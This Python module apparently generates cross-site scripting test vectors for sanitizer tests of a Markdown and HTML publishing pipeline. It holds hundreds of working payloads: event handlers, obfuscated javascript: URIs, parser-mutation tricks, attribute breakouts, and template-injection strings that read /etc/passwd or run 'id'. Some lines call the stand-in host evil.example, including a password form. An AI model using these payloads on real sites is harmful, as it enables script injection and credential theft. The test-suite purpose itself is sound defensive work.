"""Attacks through every door an author's text has, made from tables rather than copied from a list.

Each table names one idea: where the code stands, what starts it, how it is hidden. Their products are the
vectors; the shapes that no product gives stand by themselves. Every payload calls `alert`, so that a browser
test can catch it by replacing that one function.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

# ── raw HTML ─────────────────────────────────────────────────────────────────────────────────────────────

FIRING = (
    ("img", "src=x", "onerror"),
    ("img", "srcset=x", "onerror"),
    ("img", "src=/favicon.ico", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("svg", "", "onload"),
    ("svg/x", "", "onload"),
    ("math", "", "onclick"),
    ("iframe", "src=about:blank", "onload"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocusin"),
    ("keygen", "autofocus", "onfocus"),
    ("a", "href=# tabindex=0 autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("div", "popover", "onbeforetoggle"),
    ("video", "src=x", "onerror"),
    ("video", "autoplay src=x", "onloadstart"),
    ("audio", "src=x", "onerror"),
    ("source", "src=x", "onerror"),
    ("object", "data=x", "onerror"),
    ("embed", "src=/", "onload"),
    ("link", "rel=stylesheet href=/", "onload"),
    ("style", "", "onload"),
    ("script", "src=//", "onerror"),
    ("marquee", "width=1", "onstart"),
    ("p", "", "onclick"),
    ("p", "style='animation:x 1s'", "onanimationstart"),
    ("div", "style='transition:all 1s'", "ontransitionend"),
    ("table", "", "onmouseover"),
    ("td", "", "onpointerenter"),
    ("span", "contenteditable", "onbeforeinput"),
    ("form", "", "onsubmit"),
    ("form", "", "onformdata"),
    ("summary", "", "onkeydown"),
    ("ruby", "", "onwheel"),
    ("figure", "", "ondragstart"),
    ("dialog", "open", "onclose"),
    ("x-station", "tabindex=0 id=x", "onfocus"),
    ("li", "", "oncopy"),
    ("h2", "", "oncontentvisibilityautostatechange"),
)
"""Element, what it needs to fire, and the event."""

HANDLERS = (
    "<{tag} {need} {event}=alert(1)>",
    '<{tag} {need} {event}="alert(1)">text</{end}>',
    "<{tag}/{event}='alert(1)'/{need}>",
    "<{TAG} {need} {EVENT} = alert&lpar;1&rpar;>",
    "<{tag} {need}\n\t{event}\n=\n`alert(1)`>",
    '正文<{tag} {need} a=">" {event}=alert(1)//',
)
"""Unquoted, quoted, slashes for spaces, capitals and references, line breaks, an end that never comes."""


def _handlers() -> Iterator[str]:
    for (tag, need, event), form in product(FIRING, HANDLERS):
        end = tag.partition("/")[0]
        yield form.format(tag=tag, TAG=tag.upper(), need=need, event=event, EVENT=event.title(), end=end)


SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>",
    "<script src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script type=module src=https://evil.example/x.mjs></script>",
    '<script type="speculationrules">{"prefetch":[{"urls":["//evil.example"]}]}</script>',
    '<script type="importmap">{"imports":{"x":"data:text/javascript,alert(1)"}}</script>',
    "<script>alert(1)",
    "<script <b>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script><!-- alert(1) --></script>",
    "<script>//<![CDATA[\nalert(1)\n//]]></script>",
    "<script\0>alert(1)</script>".replace("\0", "\x0b"),
    "<script>alert`1`</script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "段落<script>alert(1)</script>段落",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "    <script>alert(1)</script>\n\n<script>alert(2)</script>",
    "<div markdown='1'><script>alert(1)</script></div>",
    "<p>\n\n<script>alert(1)</script>\n\n</p>",
    "\\<script>alert(1)</script>",
    "*<script>*alert(1)*</script>*",
    "`<script>`alert(1)</script>",
    "``<script>alert(1)</script>`",
)

# ── addresses ────────────────────────────────────────────────────────────────────────────────────────────


def _as_references(text: str, form: str) -> str:
    return "".join(form.format(ord(c)) for c in text)


SCHEMES = {
    "plain": "javascript:alert(1)",
    "capitals": "JaVaScRiPt:alert(1)",
    "decimal": _as_references("javascript:", "&#{};") + "alert(1)",
    "decimal without end": _as_references("javascript", "&#{:07}") + ":alert(1)",
    "hexadecimal": _as_references("javascript:", "&#x{:X};") + "alert(1)",
    "hexadecimal, small": _as_references("javascript:", "&#x{:x};") + "alert(1)",
    "one letter": "&#106;avascript:alert(1)",
    "colon": "javascript&colon;alert(1)",
    "colon by number": "javascript&#58;alert(1)",
    "colon with zeros": "javascript&#x0000003A;alert(1)",
    "tab by name": "java&Tab;script:alert(1)",
    "line break by name": "java&NewLine;script:alert(1)",
    "tab by number": "java&#9;script:alert(1)",
    "line feed": "java&#10;script:alert(1)",
    "return": "java&#13;script:alert(1)",
    "tab": "java\tscript:alert(1)",
    "space before": " javascript:alert(1)",
    "control before": "&#1;javascript:alert(1)",
    "unit separator before": "&#31;javascript:alert(1)",
    "start of text before": "&#2;javascript:alert(1)",
    "no-break space before": "&nbsp;javascript:alert(1)",
    "full-width": "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "full-width colon": "javascript：alert(1)",
    "percent": "%6Aavascript:alert(1)",
    "percent colon": "javascript%3Aalert(1)",
    "percent line break": "javascript:%0aalert(1)",
    "comment": "javascript://evil.example/%0aalert(1)",
    "broken host": "javascript://[/%0aalert(1)",
    "backslash": "java\\script:alert(1)",
    "soft hyphen": "java&shy;script:alert(1)",
    "zero width": "java&#8203;script:alert(1)",
    "byte order mark": "&#65279;javascript:alert(1)",
    "nul": "java&#0;script:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript, capitals": "VBScript:msgbox(1)",
    "livescript": "livescript:alert(1)",
    "data html": "data:text/html,<script>alert(1)</script>",
    "data base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data capitals": "DATA:TEXT/HTML,%3Cscript%3Ealert(1)%3C/script%3E",
    "data svg": "data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='alert(1)'/%3E",
    "data xhtml": "data:application/xhtml+xml,%3Cscript%3Ealert(1)%3C/script%3E",
    "data without type": "data:,alert(1)",
    "data split": "da&#10;ta:text/html,alert(1)",
    "file": "file:///C:/Windows/win.ini",
    "blob": "blob:https://evil.example/1",
    "view-source": "view-source:javascript:alert(1)",
    "feed": "feed:javascript:alert(1)",
    "jar": "jar:javascript:alert(1)!/",
    "about": "about:blank#javascript:alert(1)",
    "ms-office": "ms-word:ofe|u|http://evil.example/x.docm",
}

MARKDOWN_ADDRESSES = (
    "[字]({url})",
    '[字](<{url}> "题")',
    "![图]({url})",
    "[字][x]\n\n[x]: {url}",
    "[x]\n\n[x]: <{url}> 'y'",
    "![图][x]\n\n[x]: {url}",
    "<{url}>",
    "[![图]({url})]({url})",
)
HTML_ADDRESSES = (
    '<a href="{url}">字</a>',
    "<a href='{url}'>字</a>",
    "<a href={url}>字</a>",
    '<img src="{url}" alt="图">',
    '<a xlink:href="{url}">字</a>',
    '<blockquote cite="{url}">字</blockquote>',
)
RARE_ADDRESSES = (
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<form action="{url}"><button>字</button></form>',
    '<button form=f formaction="{url}">字</button>',
    '<svg><a xlink:href="{url}"><text y=9>字</text></a></svg>',
    '<math href="{url}">字</math>',
    '<math><mtext xlink:href="{url}">字</mtext></math>',
    '<area href="{url}" shape=default>',
    '<base href="{url}//">',
    '<link rel=import href="{url}">',
    '<link rel=stylesheet href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<table background="{url}"><tr><td background="{url}">字</table>',
    '<body background="{url}">',
    '<img srcset="{url} 2x">',
    '<picture><source srcset="{url}"><img></picture>',
    '<video poster="{url}"></video>',
    '<q cite="{url}">字</q>',
    '<del cite="{url}">字</del>',
    '<a href="/" ping="{url}">字</a>',
    '<img src=x longdesc="{url}" usemap="{url}">',
    '<svg><use href="{url}"/></svg>',
    '<svg><image href="{url}"/></svg>',
    '<svg><animate attributeName=href values="{url}" /></svg>',
    '<svg><set attributeName=href to="{url}" /></svg>',
    '<applet code="{url}" archive="{url}"></applet>',
    '<isindex action="{url}" type=image>',
    '<portal src="{url}"></portal>',
    '<xml src="{url}"></xml>',
    '<html manifest="{url}">',
    '<head profile="{url}">',
    '<input type=image src="{url}" formaction="{url}">',
    '<frameset><frame src="{url}"></frameset>',
)


def _addresses() -> Iterator[str]:
    forms = MARKDOWN_ADDRESSES + HTML_ADDRESSES
    yield from (form.format(url=url) for form, url in product(forms, SCHEMES.values()))
    few = (SCHEMES["plain"], SCHEMES["data base64"], SCHEMES["tab by name"])
    yield from (form.format(url=url) for form, url in product(RARE_ADDRESSES, few))


# ── mutation: harmless as written, harmful once written out and parsed again ─────────────────────────────

PAYLOAD = "<img src=x onerror=alert(1)>"
RAW_TEXT = (
    "style",
    "script",
    "title",
    "textarea",
    "xmp",
    "noscript",
    "noembed",
    "noframes",
    "iframe",
    "template",
)
FOREIGN = ("svg", "math")
POINTS = (
    "mtext",
    "mi",
    "mo",
    "mn",
    "ms",
    "annotation-xml",
    "foreignObject",
    "desc",
    "title",
    "mglyph",
    "malignmark",
)
"""Where foreign content turns back into HTML, or seems to."""


def _mutations() -> Iterator[str]:
    for raw in RAW_TEXT:
        yield f'<{raw}><p title="</{raw}>{PAYLOAD}"></{raw}>'
        yield f"<{raw}><!--</{raw}>{PAYLOAD}--></{raw}>"
        yield f'<p id="<{raw}>"><a title="</{raw}>{PAYLOAD}">字</a>'
        yield f"<{raw}>{PAYLOAD}"
    for foreign, raw in product(FOREIGN, RAW_TEXT):
        yield f'<{foreign}><{raw}><a title="</{raw}>{PAYLOAD}">'
        yield f"<{foreign}><p><{raw}><!--</{raw}>{PAYLOAD}-->"
    for foreign, point in product(FOREIGN, POINTS):
        yield f'<{foreign}><{point}><{foreign}><style><a id="</style>{PAYLOAD}">'
        yield f"<{foreign}><{point}><table><mglyph><style><!--</style>{PAYLOAD}"
    yield f"<form><{FOREIGN[1]}><mtext></form><form><mglyph><style></math>{PAYLOAD}"
    yield f"<svg></p><style><a id='</style>{PAYLOAD}'>"
    yield f"<math><annotation-xml encoding='text/html'><style>{PAYLOAD}</style></annotation-xml></math>"
    yield f"<svg><![CDATA[><p title=']]>{PAYLOAD}'></svg>"
    yield f"<table><tr><td><svg><desc><td><style><!--</style>{PAYLOAD}</table>"
    yield f"<select><{RAW_TEXT[4]}></select>{PAYLOAD}"
    yield f"<plaintext>{PAYLOAD}"


COMMENTS = (
    "<!-->" + PAYLOAD + "-->",
    "<!--->" + PAYLOAD + "-->",
    "<!-- --!>" + PAYLOAD + "-->",
    "<!-- -- >" + PAYLOAD,
    "<!--[if IE]>" + PAYLOAD + "<![endif]-->",
    "<![if !IE]>" + PAYLOAD + "<![endif]>",
    "<!" + PAYLOAD + ">",
    "<?" + PAYLOAD + "?>",
    "<?xml-stylesheet href='javascript:alert(1)'?>" + PAYLOAD,
    "</" + PAYLOAD,
    "</ " + PAYLOAD + ">",
    "<![CDATA[" + PAYLOAD + "]]>",
    "<!DOCTYPE x [<!ENTITY y '" + PAYLOAD + "'>]>&y;",
    "<!ENTITY " + PAYLOAD + ">",
    "<!--\n" + PAYLOAD + "\n-->" + PAYLOAD,
    "文字<!--" + PAYLOAD,
    "<!-- `-->` " + PAYLOAD + " -->",
    "<%" + PAYLOAD + "%>",
    "<%= alert(1) %>" + PAYLOAD,
)

STYLES = (
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url('javascript:alert(1)')\">字</p>",
    "<p style='width:expression(alert(1))'>字</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>字</p>",
    "<p style='behavior:url(x.htc)'>字</p>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>字</p>",
    "<p STYLE=color:red>字</p>",
    "<p/style=color:red>字</p>",
    "<td style=x:expression(alert(1))>字</td>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<meta http-equiv=set-cookie content=x=1>",
    "<meta name=referrer content=unsafe-url>",
    "<form action=//evil.example><input name=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=x.swf><param name=movie value=javascript:alert(1)></object>",
    "<embed src=x.swf allowscriptaccess=always>",
    "<template shadowrootmode=open>" + PAYLOAD + "</template>",
    "<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>字</div>",
    "<a href=# id=alert name=alert>字</a><a id=alert name=x href=javascript:alert(1)>字</a>",
    "<p is=x-x onclick=alert(1)>字</p>",
    "<p data-x=1 data-onclick=alert(1) onclick=alert(1)>字</p>",
    "<div role=group tabindex=0 onfocus=alert(1)>字</div>",
)

# ── Markdown's own constructs ────────────────────────────────────────────────────────────────────────────

BREAKOUTS = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "&quot; onfocus=alert(1) autofocus x=&quot;",
    "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
    "</title></textarea></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "`onerror=alert(1)`",
    "＂＞＜script＞alert(1)＜/script＞",
    '\\"><script>alert(1)</script>',
    "{{7*7}}{% raw %}<script>alert(1)</script>{% endraw %}",
)
"""What leaves an attribute or an element, where it was not escaped."""

PLACES = (
    "![{x}](a.jpg)",
    '![图](a.jpg "{x}")',
    '[字](/a/ "{x}")',
    "[{x}](/a/)",
    "[字](/a/?q={x})",
    "[字](/a/#{x})",
    "![图](a.jpg{x})",
    '[字][r]\n\n[r]: /a/ "{x}"',
    "[{x}]\n\n[{x}]: /a/",
    "字[^{x}]\n\n[^{x}]: 注",
    "字[^1]\n\n[^1]: {x}",
    "站务\n\n*[站务]: {x}",
    "{x}\n\n*[{x}]: 站务",
    "{x}\n: {x}",
    '!!! note "{x}"\n    正文',
    "!!! {x}\n    正文",
    "| {x} | 二 |\n|---|---|\n| 三 | {x} |",
    "```{x}\n正文\n```",
    "~~~ {{ .{x} #{x} }}\n正文\n~~~",
    '``` {{ .py title="{x}" }}\n正文\n```',
    "    {x}",
    "`{x}`",
    "# {x}",
    "## 标题 {{#{x}}}",
    "{x}\n====",
    "> {x}",
    "1. {x}\n2. {x}",
    "**{x}** *{x}*",
    "<{x}@evil.example>",
    "<https://evil.example/{x}>",
    '<p title="{x}">字</p>',
    "<p title='{x}'>字</p>",
    "<img alt={x} src=a.jpg>",
    "<!-- {x} -->",
)


def _breakouts() -> Iterator[str]:
    yield from (place.format(x=text) for place, text in product(PLACES, BREAKOUTS))


TEMPLATES = (
    "{{7*7}}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}{{ os.popen('id').read() }}",
    "{# 注 #}<script>alert(1)</script>",
    "{{ '<script>alert(1)</script>'|safe }}",
    "${7*7}<script>alert(1)</script>",
    "#{7*7}<script>alert(1)</script>",
    "<%= 7*7 %><script>alert(1)</script>",
    "[[${7*7}]]<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "<p v-html=\"'<img src=x onerror=alert(1)>'\" @click=alert(1) :href=x>字</p>",
    "<p ng-app ng-csp ng-click=$event.view.alert(1)>字</p>",
    "<p x-data x-init=alert(1) hx-on:click=alert(1)>字</p>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "&#2;wzxhzdk:0&#3;<script>alert(1)</script>",
    "\x020\x03<img src=x onerror=alert(1)>",
    "&#x2;klzzwxh:0000&#x3;" + PAYLOAD,
)

BODY: tuple[str, ...] = tuple(
    dict.fromkeys((*SCRIPTS, *_handlers(), *_addresses(), *_mutations(), *COMMENTS, *STYLES, *_breakouts(), *TEMPLATES))
)
"""For the text of an issue, an article or a page."""

# ── attr_list ────────────────────────────────────────────────────────────────────────────────────────────

_LISTS = (
    "onclick=alert(1)",
    "onclick='alert(1)'",
    'onclick="alert(1)"',
    "ONCLICK=alert(1)",
    "onmouseover=alert&lpar;1&rpar;",
    "onfocus=alert(1) autofocus tabindex=0",
    "style=background:url(javascript:alert(1))",
    "style='position:fixed;inset:0'",
    "href=javascript:alert(1)",
    "href='java&Tab;script:alert(1)'",
    "href=JAVASCRIPT&colon;alert(1)",
    "href=data:text/html,alert(1)",
    "href=vbscript:x",
    "src=x onerror=alert(1)",
    "src=data:text/html,alert(1)",
    "srcset=javascript:alert(1)",
    "srcdoc=alert(1)",
    "formaction=javascript:alert(1)",
    "action=javascript:alert(1)",
    "xlink:href=javascript:alert(1)",
    "background=javascript:alert(1)",
    "cite=javascript:alert(1)",
    "ping=//evil.example",
    '#x"onclick=alert(1)',
    '.x"onclick=alert(1)',
    "title='\"><script>alert(1)</script>'",
    "data-x='</p><script>alert(1)</script>'",
    "popovertarget=x",
    "#a onclick=alert(1) .b",
)
_HOSTS = (
    "正文\n{{: {x} }}",
    "# 标题 {{: {x} }}",
    "## 标题 {{ {x} }}",
    "[字](/a/){{: {x} }}",
    "![图](a.jpg){{ {x} }}",
    "**字**{{: {x} }}",
    "- 项 {{: {x} }}",
    "| 一 {{: {x} }} | 二 |\n|---|---|\n| 三 | 四 {{: {x} }} |",
    "``` {{ .py {x} }}\n正文\n```",
    "词\n: 义\n{{: {x} }}",
)

ATTR_LIST: tuple[str, ...] = tuple(host.format(x=text) for host, text in product(_HOSTS, _LISTS))
"""Attributes set with attr_list, on each kind of element that takes them."""

# ── single values ────────────────────────────────────────────────────────────────────────────────────────

ALT: tuple[str, ...] = tuple(
    form.format(x=text)
    for form, text in product(
        (
            "![{x}](a.jpg)",
            "![图 {x}](a.jpg '题 {x}')",
            '![{x}][p]\n\n[p]: a.jpg "{x}"',
            '<img src=a.jpg alt="{x}">',
        ),
        (
            *BREAKOUTS,
            "](javascript:alert(1))",
            "](x)![](data:text/html,alert(1)",
            'a" src="x" onerror="alert(1)',
        ),
    )
)
"""Descriptions and titles of pictures."""

TITLE: tuple[str, ...] = (
    *BREAKOUTS,
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</h1><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "[字](javascript:alert(1))",
    "![图](javascript:alert(1))",
    "<javascript:alert(1)>",
    "标题 {onclick=alert(1)}",
    "标题 {: onclick=alert(1) }",
    '标题 {#x" onclick="alert(1)}',
    "{{7*7}} {% include 'x' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
    "javascript:alert(1)",
    "';alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "]]></title><script>alert(1)</script>",
)
"""Titles of issues, sections and articles; they reach `<title>`, `<meta>`, ids, feeds and the index."""

FRONT_KEYS = (
    *("title", "number", "date", "updated", "summary", "keywords", "byline", "section", "description"),
    *("id", "redirect_from", "order", "hits"),
)
FRONT: tuple[tuple[str, str], ...] = tuple(product(FRONT_KEYS, TITLE))
"""Entries of the front matter and their values, to be quoted as YAML by whoever plants them."""
